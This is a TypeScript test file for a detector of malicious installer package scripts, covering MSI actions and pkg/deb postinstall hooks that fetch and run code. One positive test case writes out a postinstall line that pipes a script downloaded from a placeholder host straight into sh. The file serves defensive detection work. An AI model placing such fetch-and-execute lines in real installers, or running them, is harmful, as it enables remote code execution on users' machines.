import { expect, test } from 'vitest'
import type { Artifact } from '../artifact.ts'
import { packageOfScript } from '../installers/package-script.ts'
import { fixture } from '../installers/testing.ts'
import { artifactOf, fileOf, hits } from '../testing.ts'
import detector from './installer-package-script.ts'

test('a Windows installer whose action fetches and runs', async () => {
  const artifact = await fileOf('driver.msi', fixture('actions.msi'))
  const [found] = hits(detector, artifact)
  expect(found).toMatchObject({ strength: 'decisive', where: { file: 'driver.msi', part: 'action Fetch' } })
})

test.each([
  ['update.pkg › Scripts/postinstall', 'update.pkg'],
  ['a.dmg › Zoom.pkg › zoom.pkg/Scripts/preinstall', 'Zoom.pkg'],
  ['tool.deb › control.tar › postinst', 'tool.deb'],
  ['project/scripts/postinstall', undefined],
  ['update.pkg › Payload/usr/bin/tool', undefined],
])('whose script %j is', (path, holder) => {
  expect(packageOfScript(path)).toBe(holder)
})

/** The script as it would lie in a package: packages themselves are opened elsewhere. */
async function inPackage(script: string): Promise<Artifact> {
  const artifact = await artifactOf({ 'postinstall!': script })
  const path = 'update.pkg › Scripts/postinstall'
  return { ...artifact, acts: artifact.acts.map((act) => ({ ...act, file: path })) }
}

test('a script that fetches and runs, and one that is honest', async () => {
  expect(hits(detector, await inPackage('#!/bin/sh\ncurl -s http://a.invalid/a.sh | sh\n'))).toHaveLength(1)
  const honest =
    '#!/bin/sh\nset -e\nuseradd --system tool || true\nupdate-desktop-database -q\nln -sf /opt/tool/tool /usr/bin/tool\n'
  expect(hits(detector, await inPackage(honest))).toEqual([])
})
